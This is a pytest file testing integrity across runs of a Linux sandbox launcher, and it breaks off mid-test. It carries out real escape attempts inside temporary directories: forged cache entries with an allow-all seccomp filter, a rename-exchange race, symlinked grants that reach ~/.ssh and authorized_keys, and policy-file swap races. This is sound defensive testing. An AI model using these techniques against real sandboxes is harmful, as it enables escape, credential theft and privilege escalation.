"""Integrity across runs: no tool may weaken the sandbox of a later run (issue 11).

Each test is an attack by a confined tool on what a *later* run trusts, carried out
for real: the tool's writes are made inside a `sandlock run` of a policy that grants
them (which proves a tool could make them), then a later run of a stricter policy
(through the CLI or the Python API) tries to reach what only the attack could give it:
a private key in a temporary HOME, the caller's API_KEY, a UDP socket, a file outside
its grant. The later run passes the test if it either refuses to start (CLI: exit 125
and a ``sandlock:`` message; API: a SandlockError) or runs confined so that the attack
achieves nothing. Before each attack the same policy is run once untouched and must
work, so that refusing everything cannot pass.

Measured on this kernel (Landlock ABI 7), as root and as the unprivileged CI user
(identical verdicts), the "before" at 523520c and the "after" at acef34f or later:

- forged cache entry, existing (the tool rewrites every entry: plan ABI 0, allow-all
  BPF, env.pass = ["*"], no re-checks, CRC recomputed) and pre-created for a policy
  never run: before, the later run read the key, saw API_KEY and opened a UDP socket.
  After, the tool's write on $HOME is refused (it covers sandlock's cache); a second
  agent with another HOME launches it, it forges the first agent's entry, and the
  later run rejects the entry and runs confined. The forged entry is well formed: the
  same bytes signed with the launcher's key widen the run (the positive control), so
  the check holds because of the tag. (Before 2026-12, the forger wrote a 7-element
  plan: with the tag check off, the run crashed on it and the test still passed.)
- a new Sandbox after the tool rewrote the caches: holds at 523520c (its BPF cache
  was removed there); at 2cf1bea the Sandbox got the allow-all filter (UDP opened).
- race on the write-grant check (``out`` swapped with a link by RENAME_EXCHANGE):
  before, 19 won starts out of 100 as root (the grant landed on /proc/sys/kernel:
  core_pattern opened for write, nothing written) and 31 to 41 out of 100 as the user
  (a file created outside the workspace); 21 to 36 starts also crashed with a
  traceback. After: no escape in 100 starts as root (33 clean refusals), but 11
  tracebacks at acef34f; none since 84cc028 (22 clean refusals in 100 starts).
- symlinked grants (an exec grant of the same policy turned into a link to /, a
  write and a read grant of another policy turned into links to ~/.ssh), through the
  CLI and the API: before, the key was read and ~/.ssh written. After, refused (125 /
  PolicyError: "it is a symbolic link ... in a directory a tool may be able to write").
- policy file edited while a run starts: before, the strict text kept the
  permissive text's grants, in 9 to 13 of 40 rounds of the atomic-replace race, and
  every time when the editor saves right after the run opened the file (inotify) or
  when a FIFO serves two texts. After: the strict text holds in every round.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import select
import stat
import subprocess
import sys
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Optional, Sequence

import pytest
from conftest import IS_ROOT, PYTHON, require_abi

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- integrity-test secret\n"
API_KEY = "sk-integrity-test-5c1e7b"
NOTES = "hello from the workspace\n"

#: ``struct sock_filter {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}``: allows every syscall.
ALLOW_ALL_BPF = (0x06).to_bytes(2, "little") + b"\0\0" + (0x7FFF0000).to_bytes(4, "little")


@pytest.fixture(autouse=True)
def _landlock() -> None:
    require_abi(1, "integrity across runs (filesystem confinement)")


@dataclass
class Scene:
    """A temporary HOME with a private key, a workspace beside it, and the caller's
    environment (its own cache directory, an API key tools must not see)."""

    root: Path
    home: Path
    ws: Path
    outside: Path
    env: dict[str, str]

    @property
    def secret(self) -> Path:
        return self.home / ".ssh" / "id_rsa"

    @property
    def cache(self) -> Path:
        return Path(self.env["XDG_CACHE_HOME"])


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    (home / ".ssh").chmod(0o700)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.md").write_text(NOTES)
    outside = tmp_path / "outside"
    outside.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("SANDLOCK_")}
    env.update(HOME=str(home), XDG_CACHE_HOME=str(home / ".cache"), API_KEY=API_KEY)
    return Scene(tmp_path, home, ws, outside, env)


def policy_file(scene: Scene, name: str, text: str) -> Path:
    path = scene.root / name
    path.write_text(textwrap.dedent(text))
    return path


def cli(scene: Scene, policy: Path, argv: Sequence[str], *, env: Optional[dict[str, str]] = None,
        **variables: str) -> subprocess.CompletedProcess[str]:
    """`sandlock run` as the agent would call it: a new process with the scene's env.

    Every launcher runs in the scene's root with ``-P``: ``python -m`` would put that
    working directory on sandlock's import path, inside which no write is granted."""
    return subprocess.run(cli_args(scene, policy, argv, **variables), capture_output=True,
                          text=True, cwd=scene.root, env=env or scene.env, timeout=30,
                          check=False)


def cli_args(scene: Scene, policy: Path, argv: Sequence[str], **variables: str) -> list[str]:
    args = [sys.executable, "-P", "-m", "sandlock", "run", "--policy", str(policy)]
    for name, value in {"ws": str(scene.ws), **variables}.items():
        args += ["--var", f"{name}={value}"]
    return [*args, "--", *argv]


def refused(done: subprocess.CompletedProcess[str]) -> bool:
    """A launcher refusal: exit 125 with a one-line reason, never a traceback."""
    if done.returncode != 125:
        return False
    assert "sandlock:" in done.stderr and "Traceback" not in done.stderr, done.stderr
    return True


def tool(scene: Scene, policy: Path, argv: Sequence[str], *, env: Optional[dict[str, str]] = None,
         **variables: str) -> bool:
    """The attacking tool, confined by its own policy. True if it ran; False if sandlock
    refused to start it (a fix may refuse a grant that reaches what later runs trust)."""
    return tool_output(scene, policy, argv, env=env, **variables) is not None


def tool_output(scene: Scene, policy: Path, argv: Sequence[str], *,
                env: Optional[dict[str, str]] = None, **variables: str) -> Optional[str]:
    """What the attacking tool printed, or None if sandlock refused to start it."""
    done = cli(scene, policy, argv, env=env, **variables)
    if refused(done):
        return None
    assert done.returncode == 0, (done.stdout, done.stderr)
    return done.stdout


# ----------------------------------------------------------------------------
# Running a policy through either interface

#: A new Sandbox in a new agent process: prints what the confined command did, or the
#: SandlockError that refused it. argv: policy, variables as JSON, then the command.
API_RUNNER = textwrap.dedent("""\
    import json, sys
    import sandlock
    policy, variables, *argv = sys.argv[1:]
    try:
        with sandlock.Sandbox(policy, vars=json.loads(variables)) as box:
            result = box.run(argv, capture_output=True, text=True)
    except sandlock.SandlockError as exc:
        print(json.dumps({"refused": f"{type(exc).__name__}: {exc}"}))
    else:
        error = result.error
        refused = result.returncode == 125 and isinstance(error, sandlock.SandlockError)
        print(json.dumps({"code": result.returncode, "stdout": result.stdout,
                          "stderr": result.stderr, "refused": refused and str(error)}))
""")


@dataclass
class Ran:
    """How one run of a policy ended: refused before the command ran, or its result."""

    refused: bool
    code: int
    stdout: str
    stderr: str


def attempt(scene: Scene, policy: Path, argv: Sequence[str], via: str,
            env: Optional[dict[str, str]] = None, **variables: str) -> Ran:
    """Run ``argv`` under ``policy`` through the CLI or through a new ``Sandbox``."""
    if via == "cli":
        done = cli(scene, policy, argv, env=env, **variables)
        return Ran(refused(done), done.returncode, done.stdout, done.stderr)
    ran = subprocess.run([sys.executable, "-P", "-c", API_RUNNER, str(policy),
                          json.dumps({"ws": str(scene.ws), **variables}), *argv],
                         capture_output=True, text=True, cwd=scene.root, env=env or scene.env,
                         timeout=30, check=False)
    assert ran.returncode == 0 and ran.stdout, (ran.stdout, ran.stderr)
    out = json.loads(ran.stdout.strip().splitlines()[-1])
    if out["refused"]:
        return Ran(True, 125, out.get("stdout", ""), out["refused"])
    return Ran(False, out["code"], out["stdout"], out["stderr"])


# ----------------------------------------------------------------------------
# The victim: a strict policy (python, read on the workspace only) and its probe

STRICT = """\
version = 1
extends = ["python"]
[filesystem]
read = ["${ws}"]
"""

#: Reports what the confined process could reach: the workspace (granted), the private
#: key and the caller's API_KEY (not granted), a UDP socket (denied by the filter).
VICTIM = textwrap.dedent("""\
    import json, os, socket, sys
    report = {}
    for name, path in (("notes", sys.argv[1]), ("secret", sys.argv[2])):
        try:
            with open(path) as handle:
                report[name] = handle.read()
        except OSError as exc:
            report[name] = exc.errno
    report["api_key"] = os.environ.get("API_KEY")
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
        report["udp"] = "open"
    except OSError as exc:
        report["udp"] = exc.errno
    print(json.dumps(report))
""")


def victim_argv(scene: Scene) -> list[str]:
    return [PYTHON, "-c", VICTIM, str(scene.ws / "notes.md"), str(scene.secret)]


def assert_confined(stdout: str, stderr: str, code: int) -> None:
    """The victim ran and reached only its grant."""
    assert SECRET not in stdout and API_KEY not in stdout, "the attack widened a later run"
    assert code == 0, (stdout, stderr)
    report = json.loads(stdout.strip().splitlines()[-1])
    assert report == {"notes": NOTES, "secret": errno.EACCES, "api_key": None,
                      "udp": errno.EPERM}, report


def assert_victim_held(done: subprocess.CompletedProcess[str]) -> None:
    if not refused(done):
        assert_confined(done.stdout, done.stderr, done.returncode)


def assert_widened(done: subprocess.CompletedProcess[str]) -> None:
    """The positive control: the attack reached everything the strict policy denies."""
    assert done.returncode == 0, (done.stdout, done.stderr)
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report == {"notes": NOTES, "secret": SECRET, "api_key": API_KEY, "udp": "open"}, report


# ----------------------------------------------------------------------------
# Attack 1: forged entries in the cache of compiled policies (and the old BPF cache)

#: The attacking tool: write on $HOME, hence on $XDG_CACHE_HOME = $HOME/.cache.
HOME_WRITER = """\
version = 1
extends = ["python"]
[filesystem]
write = ["${home}"]
[limits]
memory = "256MiB"
timeout = "20s"
"""

#: Run inside the tool: rewrite every cache entry it finds under argv[1]/sandlock.
#: Entry format at 523520c (sandlock/compile/cache.py): a magic line, the CRC-32 of the
#: payload, then marshal((key, value)); since then a keyed tag replaces the CRC. The
#: forger does not rely on the layout: it looks for a marshalled (key, dict) after the
#: first line (only where a 2-tuple starts: garbage parsed as marshal data can ask for
#: huge lists), forges the dict, keeps the bytes around it and recomputes a CRC-32 of
#: the payload found beside it (a tag it cannot compute stays as it was). The forged
#: entry is well formed: the plan keeps its length and its trailing rights tables (only
#: its ABI, handled rights, paths and ports are zeroed), so with the tag unchecked it
#: really widens the run (see the positive controls below). Files of the old BPF cache
#: (sandlock/bpf/) become an allow-all program. Prints the files it forged (JSON).
FORGER = textwrap.dedent("""\
    import io, json, marshal, os, sys, zlib
    ALLOW = bytes.fromhex(sys.argv[2])
    def forged(value):
        value.update(plan=(0, 0, 0, 0, (), ()) + tuple(value["plan"][6:]), bpf=ALLOW,
                     checks=(), layers=(), warnings=(), env=(("*",), tuple(value["env"][1])))
        return value
    PAIR = (b"\\x29\\x02", b"\\xa9\\x02", b"\\x28\\x02\\0\\0\\0", b"\\xa8\\x02\\0\\0\\0")
    def forge(data):
        for start in range(data.find(b"\\n") + 1, min(len(data), 256)):
            if not data.startswith(PAIR, start):
                continue
            stream = io.BytesIO(data[start:])
            try:
                key, value = marshal.load(stream)
                payload = marshal.dumps((key, forged(value)))
            except Exception:
                continue
            old = data[start:start + stream.tell()]
            head, tail = data[:start], data[start + len(old):]
            crc = zlib.crc32(old).to_bytes(4, "little")
            new = zlib.crc32(payload).to_bytes(4, "little")
            head, tail = (head[:-4] + new if head.endswith(crc) else head,
                          new + tail[4:] if tail.startswith(crc) else tail)
            return head + payload + tail
        return None
    done, unparsed = [], []
    for where, _, names in os.walk(os.path.join(sys.argv[1], "sandlock")):
        for name in names:
            path = os.path.join(where, name)
            with open(path, "rb") as handle:
                data = handle.read()
            data = ALLOW if os.path.basename(where) == "bpf" else forge(data)
            if data is None:
                unparsed.append(path)
                continue
            with open(path, "wb") as handle:
                handle.write(data)
            done.append(path)
    print(json.dumps({"forged": done, "unparsed": unparsed}))
""")

#: The attacker's arithmetic, done from the sandlock source it can read: the entry a
#: run of argv[1] (with variables argv[2:]) will look up, forged, well formed (this
#: version's layout). Run with the victim's environment and working directory (they
#: are part of the key); under ``-P`` its ``sys.path`` is the victim's (``python -P -m``). The
#: attacker cannot compute the keyed tag: it writes zeros there. Prints the entry's
#: file name and its bytes.
PRECOMPUTE = textwrap.dedent("""\
    import json, marshal, sys
    from sandlock.compile import cache as fastpath
    from sandlock.compile.abi import FILE_ONLY, WRITE_RIGHTS
    variables = dict(pair.split("=", 1) for pair in sys.argv[3:])
    with open(sys.argv[1], "rb") as handle:
        text = handle.read()
    key = fastpath._key(sys.argv[1], text, variables, None, False)
    value = {"source": sys.argv[1], "layers": (), "checks": (),
             "plan": (0, 0, 0, 0, (), (), int(FILE_ONLY), int(WRITE_RIGHTS)), "warnings": (),
             "bpf": bytes.fromhex(sys.argv[2]), "rlimits": (), "env": (("*",), ()),
             "timeout": None, "cgroup": None, "signal_gate": False}
    payload = marshal.dumps((key, value))
    data = fastpath.MAGIC + bytes(fastpath.TAG_BYTES) + payload
    print(json.dumps({"name": fastpath._digest(key), "data": data.hex()}))
""")

#: Writes argv[2] (hex) to argv[1], creating private parent directories: run in the tool.
#: The attacker's computation lives in the caller (it only needs sandlock's source).
PLANT = textwrap.dedent("""\
    import os, sys
    os.makedirs(os.path.dirname(sys.argv[1]), mode=0o700, exist_ok=True)
    with open(sys.argv[1], "wb") as handle:
        handle.write(bytes.fromhex(sys.argv[2]))
""")


def home_tool(scene: Scene, argv: Sequence[str]) -> str:
    """A tool with write on the scene's $HOME, so on its cache. If the scene's launcher
    refuses that grant (it reaches the launcher's own state), the tool is launched by a
    second agent of the same account with another HOME and cache (sudo -E, CI jobs,
    containers): that launcher has nothing of its own there, and the tool can still
    write the first agent's cache, which must then not trust what it finds. Where that
    launcher refuses too (it finds the first agent's state directory in the account's
    list of them), the tool is whatever else of the account can write there (another
    sandbox, a process outside sandlock): it runs unconfined. Returns what it printed."""
    writer = policy_file(scene, "tool.toml", HOME_WRITER)
    out = tool_output(scene, writer, argv, home=str(scene.home))
    if out is None:
        other = scene.root / "other-home"
        other.mkdir(exist_ok=True)
        env = {**scene.env, "HOME": str(other), "XDG_CACHE_HOME": str(other / ".cache")}
        out = tool_output(scene, writer, argv, env=env, home=str(scene.home))
    if out is None:
        done = subprocess.run(list(argv), capture_output=True, text=True, cwd=scene.root,
                              env=scene.env, timeout=30, check=True)
        out = done.stdout
    return out


def forge_cache(scene: Scene) -> list[Path]:
    """Forge every cache entry; returns the entries of compiled policies it rewrote."""
    out = home_tool(scene, [PYTHON, "-c", FORGER, str(scene.cache), ALLOW_ALL_BPF.hex()])
    forged = json.loads(out.strip().splitlines()[-1])["forged"]
    return [Path(p) for p in forged if Path(p).parent.name == "policies"]


def signed(data: bytes) -> bytes:
    """``data`` (an entry) with the tag the launcher's key makes: what switching the tag
    check off amounts to. The test runs as the victim's user, so it can read the key."""
    from sandlock.compile import cache
    from sandlock.linux import kernel

    secret = kernel.user_keyring_secret(cache.KEY_NAME)
    assert secret is not None, "no user keyring: the cache is off, nothing to forge"
    head = len(cache.MAGIC) + cache.TAG_BYTES
    assert data.startswith(cache.MAGIC), data[:40]
    return cache.MAGIC + cache._tag(secret, cache.MAGIC, data[head:]) + data[head:]


def test_forged_cache_entry_does_not_widen_the_next_run(scene: Scene) -> None:
    strict = policy_file(scene, "strict.toml", STRICT)
    first = cli(scene, strict, victim_argv(scene))
    assert_confined(first.stdout, first.stderr, first.returncode)  # and its entry is cached
    forged = forge_cache(scene)
    assert len(forged) == 1, forged
    data = forged[0].read_bytes()
    for _ in range(2):  # the forged entry, then whatever the run left in its place
        assert_victim_held(cli(scene, strict, victim_argv(scene)))
    # The positive control: the same forged entry, tagged with the right key, widens the
    # run (so the check above held because of the tag, not because the entry was broken).
    forged[0].write_bytes(signed(data))
    assert_widened(cli(scene, strict, victim_argv(scene)))


def test_entry_planted_for_a_policy_never_run(scene: Scene) -> None:
    benign = policy_file(scene, "benign.toml", STRICT)
    done = cli(scene, benign, victim_argv(scene))
    assert_confined(done.stdout, done.stderr, done.returncode)
    strict = policy_file(scene, "strict.toml", STRICT)
    known = subprocess.run([sys.executable, "-P", "-c", PRECOMPUTE, str(strict), ALLOW_ALL_BPF.hex(),
                            f"ws={scene.ws}"], capture_output=True, text=True, cwd=scene.root,
                           env=scene.env, timeout=30, check=True).stdout
    entry = json.loads(known)
    path = scene.cache / "sandlock" / "policies" / entry["name"]
    home_tool(scene, [PYTHON, "-c", PLANT, str(path), entry["data"]])
    assert_victim_held(cli(scene, strict, victim_argv(scene)))
    # The positive control: planted with the right tag, the entry is the one looked up
    # and widens the run.
    path.write_bytes(signed(bytes.fromhex(entry["data"])))
    assert_widened(cli(scene, strict, victim_argv(scene)))


def test_api_sandbox_ignores_forged_caches(scene: Scene) -> None:
    strict = policy_file(scene, "strict.toml", STRICT)
    first = attempt(scene, strict, victim_argv(scene), "api")
    assert not first.refused, first
    assert_confined(first.stdout, first.stderr, first.code)
    # The old code kept compiled filters in $XDG_CACHE_HOME/sandlock/bpf/ (named by
    # their plan): rewrite every file the first Sandbox left, and every policy entry.
    forge_cache(scene)
    second = attempt(scene, strict, victim_argv(scene), "api")
    if not second.refused:
        assert_confined(second.stdout, second.stderr, second.code)


#: Entries of another shape than this version writes: each takes the value of a good one.
MALFORMED: dict[str, Callable[[dict[str, Any]], Any]] = {
    "plan of 7": lambda v: {**v, "plan": v["plan"][:7]},
    "plan of 9": lambda v: {**v, "plan": (*v["plan"], 0)},
    "paths not pairs": lambda v: {**v, "plan": (*v["plan"][:4], (("/",),), *v["plan"][5:])},
    "ABI a string": lambda v: {**v, "plan": ("7", *v["plan"][1:])},
    "no cgroup": lambda v: {k: x for k, x in v.items() if k != "cgroup"},
    "an extra field": lambda v: {**v, "extra": 1},
    "env a string": lambda v: {**v, "env": ("*", ())},
    "rlimits of 3": lambda v: {**v, "rlimits": ((1, 2, 3),)},
    "a list": lambda v: list(v.items()),
}


def rewrite_entry(entry: Path, change: str) -> None:
    """Unmarshal the (authentic) entry, apply ``change`` to its value, sign it again."""
    import marshal

    from sandlock.compile import cache

    data = entry.read_bytes()
    key, value = marshal.loads(data[len(cache.MAGIC) + cache.TAG_BYTES:])
    payload = marshal.dumps((key, MALFORMED[change](value)))
    entry.write_bytes(signed(cache.MAGIC + bytes(cache.TAG_BYTES) + payload))


@pytest.mark.parametrize("change", MALFORMED)
def test_a_malformed_authentic_entry_is_a_miss(scene: Scene, change: str) -> None:
    """An entry with the right tag but not the shape this version writes (a layout
    changed without a FORMAT bump, a bug) is compiled again from the policy: the run
    is the full path's, never an internal error."""
    strict = policy_file(scene, "strict.toml", STRICT)
    first = cli(scene, strict, victim_argv(scene))
    assert_confined(first.stdout, first.stderr, first.returncode)
    (entry,) = (scene.cache / "sandlock" / "policies").iterdir()
    rewrite_entry(entry, change)
    done = cli(scene, strict, victim_argv(scene))
    assert "internal error" not in done.stderr, done.stderr
    assert_confined(done.stdout, done.stderr, done.returncode)


# ----------------------------------------------------------------------------
# Attack 2: the write-grant check raced with RENAME_EXCHANGE

RACE_ROUNDS = 100
RACE_BUDGET = 12.0  #: seconds of launching at most (bounds the test, asserts nothing)

RACE_VICTIM = """\
version = 1
extends = ["base"]
[filesystem]
write = ["${ws}/out"]
exec = ["/usr/bin/sh", "/usr/bin/dash"]
"""

WS_WRITER = """\
version = 1
extends = ["python"]
[filesystem]
write = ["${ws}"]
"""

#: The racer, confined with write on the workspace only: swaps argv[1] and argv[2]
#: with renameat2(RENAME_EXCHANGE) until argv[3] exists (at most 60 s).
RACER = textwrap.dedent("""\
    import ctypes, os, sys, time
    libc = ctypes.CDLL(None, use_errno=True)
    a, b, stop = (os.fsencode(p) for p in sys.argv[1:4])
    AT_FDCWD, RENAME_EXCHANGE = -100, 2
    end = time.monotonic() + 60
    print("ready", flush=True)
    while time.monotonic() < end and not os.path.exists(stop):
        for _ in range(64):
            if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
                sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
""")


def test_race_on_the_write_grant_check(scene: Scene) -> None:
    """As root the link points at /proc/sys/kernel (a path no grant may reach) and a
    won race opens core_pattern for write (writing nothing); as a user it points at a
    directory outside the workspace, where a won race creates a file. A start that sees
    the link may be refused (exit 125), never crash (a traceback is exit 1)."""
    out, link = scene.ws / "out", scene.ws / "link"
    out.mkdir()
    victim = policy_file(scene, "victim.toml", RACE_VICTIM)
    benign = cli(scene, victim, ["sh", "-c", f"echo ok > {out}/before"])
    assert benign.returncode == 0 and (out / "before").read_text() == "ok\n", benign.stderr
    target = Path("/proc/sys/kernel") if IS_ROOT else scene.outside
    link.symlink_to(target)
    if IS_ROOT:
        probe = f": >> {target}/core_pattern && echo ESCAPED"
    else:
        probe = f"echo x > {target}/sandlock-race-$$ && echo ESCAPED"
    stop = scene.ws / "stop"
    racer = subprocess.Popen(
        [sys.executable, "-P", "-m", "sandlock", "run", "--policy",
         str(policy_file(scene, "racer.toml", WS_WRITER)), "--var", f"ws={scene.ws}", "--",
         PYTHON, "-c", RACER, str(out), str(link), str(stop)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=scene.root, env=scene.env)
    escaped, crashed = 0, []
    outcomes: dict[int, int] = {}
    try:
        assert racer.stdout is not None and racer.stdout.readline() == "ready\n"
        end = time.monotonic() + RACE_BUDGET
        for _ in range(RACE_ROUNDS):
            done = cli(scene, victim, ["sh", "-c", probe])
            outcomes[done.returncode] = outcomes.get(done.returncode, 0) + 1
            if "Traceback" in done.stderr:
                crashed.append(done.stderr.strip().splitlines()[-1])
            elif done.returncode == 125:
                refused(done)
            escaped += "ESCAPED" in done.stdout
            if escaped or time.monotonic() > end:
                break
    finally:
        stop.touch()
        try:
            racer.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            racer.kill()
            racer.communicate()
    assert racer.returncode == 0, racer.stderr
    assert not escaped and not list(scene.outside.iterdir()), (
        f"a run reached {target} through its grant (runs by exit code: {outcomes})")
    assert not crashed, f"the launcher crashed instead of refusing: {crashed[0]}"
    if out.is_symlink():  # the racer stopped half-way: put the real directory back
        os.rename(out, scene.ws / "old-link")
        os.rename(link, out)
    after = cli(scene, victim, ["sh", "-c", f"echo ok > {out}/after"])
    assert after.returncode == 0 and (out / "after").read_text() == "ok\n", after.stderr


# ----------------------------------------------------------------------------
# Attack 3: grants that a tool turned into symlinks (CLI and API)

VIA = ("cli", "api")

VENV = """\
version = 1
extends = ["base"]
[filesystem]
write = ["${ws}"]
exec = ["${ws}/.venv/bin", "/usr/bin"]
"""


@pytest.mark.parametrize("via", VIA)
def test_exec_grant_turned_into_a_link_to_root(scene: Scene, via: str) -> None:
    venv_bin = scene.ws / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    policy = policy_file(scene, "venv.toml", VENV)
    first = attempt(scene, policy, ["sh", "-c", f"cat {scene.ws}/notes.md; rm -rf {venv_bin} && "
                                    f"ln -s / {venv_bin}"], via)
    assert (first.refused, first.code, first.stdout) == (False, 0, NOTES), first
    assert venv_bin.is_symlink()
    second = attempt(scene, policy, ["cat", str(scene.secret)], via)
    assert SECRET not in second.stdout, "run 2 of the same policy read ~/.ssh"
    assert second.refused or second.code == 1, second


OUT_WRITER = """\
version = 1
extends = ["base"]
[filesystem]
write = ["${ws}/out"]
exec = ["/usr/bin/sh", "/usr/bin/dash"]
"""

SH_WS_WRITER = """\
version = 1
extends = ["base"]
[filesystem]
write = ["${ws}"]
exec = ["/usr/bin"]
"""


def plant_link(scene: Scene, name: str, target: Path) -> None:
    """Tool A (write on the workspace) replaces ``ws/name`` with a link to ``target``."""
    writer = policy_file(scene, "tool-a.toml", SH_WS_WRITER)
    path = scene.ws / name
    assert tool(scene, writer, ["sh", "-c", f"rm -rf {path} && ln -s {target} {path}"])
    assert path.is_symlink()


@pytest.mark.parametrize("via", VIA)
def test_write_grant_of_another_policy_turned_into_a_link(scene: Scene, via: str) -> None:
    (scene.ws / "out").mkdir()
    policy_b = policy_file(scene, "tool-b.toml", OUT_WRITER)
    benign = attempt(scene, policy_b, ["sh", "-c", f"echo ok > {scene.ws}/out/result"], via)
    assert (benign.refused, benign.code) == (False, 0), benign
    assert (scene.ws / "out" / "result").read_text() == "ok\n"
    plant_link(scene, "out", scene.home / ".ssh")
    planted = scene.home / ".ssh" / "authorized_keys"
    done = attempt(scene, policy_b, ["sh", "-c", f"echo attacker-key >> {planted}"], via)
    assert not planted.exists(), "tool B wrote into ~/.ssh through its grant"
    assert done.refused or done.code == 2, done  # sh: cannot create


DATA_READER = """\
version = 1
extends = ["base"]
[filesystem]
read = ["${ws}/data"]
exec = ["/usr/bin/cat"]
"""


@pytest.mark.parametrize("via", VIA)
def test_read_grant_of_another_policy_turned_into_a_link(scene: Scene, via: str) -> None:
    (scene.ws / "data").mkdir()
    (scene.ws / "data" / "input.txt").write_text(NOTES)
    policy_b = policy_file(scene, "tool-b.toml", DATA_READER)
    benign = attempt(scene, policy_b, ["cat", str(scene.ws / "data" / "input.txt")], via)
    assert (benign.refused, benign.code, benign.stdout) == (False, 0, NOTES), benign
    plant_link(scene, "data", scene.home / ".ssh")
    for path in (scene.secret, scene.ws / "data" / "id_rsa"):
        done = attempt(scene, policy_b, ["cat", str(path)], via)
        assert SECRET not in done.stdout, f"tool B read {path}"
        assert done.refused or done.code == 1, done


# ----------------------------------------------------------------------------
# Attack 4: the policy file edited while a run starts

PERMISSIVE_TEXT = """\
version = 1
extends = ["base"]
[filesystem]
read = ["${ws}", "${home}/.ssh"]
exec = ["/usr/bin/cat"]
"""

STRICT_TEXT = """\
version = 1
extends = ["base"]
[filesystem]
read = ["${ws}"]
exec = ["/usr/bin/cat"]
"""


def replace_text(path: Path, text: str) -> None:
    """Save as an editor does: write a new file, rename it over the old one."""
    tmp = path.with_name(path.name + ".new")
    tmp.write_text(text)
    os.replace(tmp, path)


def assert_strict_enforced(scene: Scene, policy: Path, env: dict[str, str]) -> None:
    done = cli(scene, policy, ["cat", str(scene.ws / "notes.md"), str(scene.secret)], env=env,
               home=str(scene.home))
    assert SECRET not in done.stdout, "the strict text ran with the permissive text's grants"
    if not refused(done):
        assert done.returncode == 1 and done.stdout == NOTES, done.stderr


def test_policy_replaced_while_runs_start(scene: Scene) -> None:
    policy = scene.root / "edited.toml"
    replace_text(policy, STRICT_TEXT)
    assert_strict_enforced(scene, policy, scene.env)  # benign: the strict text works
    end = time.monotonic() + RACE_BUDGET
    for round_ in range(40):
        # A fresh cache each round: the race is on the run that fills it.
        env = {**scene.env, "XDG_CACHE_HOME": str(scene.root / f"cache-{round_}")}
        stop = threading.Event()

        def edit(stop: threading.Event) -> None:
            texts = (PERMISSIVE_TEXT, STRICT_TEXT)
            n = 0
            while not stop.is_set():
                replace_text(policy, texts[n % 2])
                n += 1
                time.sleep(0.0005)

        editor = threading.Thread(target=edit, args=(stop,))
        editor.start()
        try:
            cli(scene, policy, ["cat", str(scene.ws / "notes.md")], env=env, home=str(scene.home))
        finally:
            stop.set()
            editor.join()
        replace_text(policy, STRICT_TEXT)  # the edits are over: this text is the policy
        assert_strict_enforced(scene, policy, env)
        if time.monotonic() > end:
            break


IN_OPEN = 0x20  #: inotify(7): the file was opened


def test_policy_saved_just_after_the_run_opened_it(scene: Scene) -> None:
    """Deterministic: the editor saves the permissive text the moment the run has
    opened the strict one (inotify IN_OPEN); afterwards the strict text is saved back
    and must be what every later run enforces."""
    libc = ctypes.CDLL(None, use_errno=True)
    policy = scene.root / "edited.toml"
    for round_ in range(2):
        env = {**scene.env, "XDG_CACHE_HOME": str(scene.root / f"cache-{round_}")}
        replace_text(policy, STRICT_TEXT)
        watch = libc.inotify_init1(os.O_CLOEXEC)
        assert watch >= 0 and libc.inotify_add_watch(watch, os.fsencode(policy), IN_OPEN) >= 0
        try:
            run = subprocess.Popen(cli_args(scene, policy, ["cat", str(scene.ws / "notes.md")],
                                            home=str(scene.home)),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                   cwd=scene.root, env=env)
            try:
                if select.select([watch], [], [], 30)[0]:
                    replace_text(policy, PERMISSIVE_TEXT)
            finally:
                run.communicate(timeout=30)
        finally:
            os.close(watch)
        replace_text(policy, STRICT_TEXT)
        for _ in range(2):
            assert_strict_enforced(scene, policy, env)


def serve_fifo(path: Path, texts: Sequence[str], stop: threading.Event) -> None:
    """Give each opener of the FIFO the next text (the last one repeats) until ``stop``."""
    n = 0
    while not stop.is_set():
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as exc:  # ENXIO: nobody is reading yet
            if exc.errno != errno.ENXIO:
                raise
            time.sleep(0.001)
            continue
        try:
            os.write(fd, texts[min(n, len(texts) - 1)].encode())
        except (BlockingIOError, BrokenPipeError):  # full, or the reader closed it at once
            pass
        finally:
            os.close(fd)
        n += 1
        time.sleep(0.02)  # let this reader see end-of-file and close before the next open


def test_policy_that_changes_between_two_reads(scene: Scene) -> None:
    """Deterministic: a FIFO serves the strict text to the first read and the permissive
    text to any later one; once it is a plain file with the strict text, the strict
    grants must hold. (A fix may refuse a policy that is not a regular file.)"""
    policy = scene.root / "edited.toml"
    os.mkfifo(policy)
    stop = threading.Event()
    server = threading.Thread(target=serve_fifo, args=(policy, (STRICT_TEXT, PERMISSIVE_TEXT),
                                                        stop))
    server.start()
    try:
        cli(scene, policy, ["cat", str(scene.ws / "notes.md")], home=str(scene.home))
    finally:
        stop.set()
        server.join()
    assert stat.S_ISFIFO(policy.stat().st_mode)
    replace_text(policy, STRICT_TEXT)
    for _ in range(2):
        assert_strict_enforced(scene, policy, scene.env)



# ----------------------------------------------------------------------------
# A policy named through a link the tool may replace


def test_a_policy_named_through_a_link_in_a_write_grant_is_refused(scene: Scene) -> None:
    """The caller names the policy through a symbolic link in the directory the policy
    lets the tool write (or through a linked directory there). The real file lies
    elsewhere, so no grant covers it; but the tool can replace the link with a policy of
    its own, which the next run, named the same way, would load. Refused like a grant
    through such a link."""
    drop = scene.root / "drop"
    drop.mkdir()
    kept = scene.root / "policies"
    kept.mkdir()
    real = kept / "tool.toml"
